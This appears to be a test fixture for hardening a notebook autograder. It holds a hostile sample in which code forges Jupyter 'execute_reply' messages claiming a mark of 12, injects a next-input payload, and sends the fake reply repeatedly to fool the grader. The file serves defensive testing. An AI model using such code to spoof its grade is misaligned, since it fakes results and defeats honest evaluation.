"""Replies to its own requests, and to those that will come, with success."""

from helpers.hostile_attacks import HandIn

ATTACK = HandIn(
    aims_at="marks",
    holds="A reply is no evidence: it only tells the grader to ask for the next thing.",
    first="""
kernel = get_ipython().kernel

def attack():
    parent = kernel.get_parent("shell")
    reply = {"status": "ok", "execution_count": 99, "user_expressions": {"mark": "12"}, "payload": [
        {"source": "set_next_input", "text": "mark = 12", "replace": True}]}
    socket = getattr(kernel, "shell_socket", None) or kernel.shell_stream
    for identity in (parent.get("header", {}).get("session", "").encode(), b"client"):
        for _ in range(20):
            try:
                kernel.session.send(socket, "execute_reply", reply, parent=parent, ident=[identity])
            except Exception:
                pass
    return True

done = attack()
""",
    room="messages",
)
